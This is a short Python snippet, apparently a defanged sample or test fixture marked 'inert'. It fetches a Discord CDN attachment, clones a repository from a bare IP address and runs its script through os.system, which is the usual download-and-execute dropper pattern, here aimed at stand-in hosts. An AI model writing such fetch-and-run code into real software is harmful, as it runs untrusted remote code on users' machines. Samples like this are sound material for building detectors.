import os, requests
body = requests.get("https://cdn.discordapp.com.invalid/attachments/1/2/inert").content
os.system("echo inert")
os.system("git clone http://203.0.113.4/repo")
os.system("python repo/run.py")
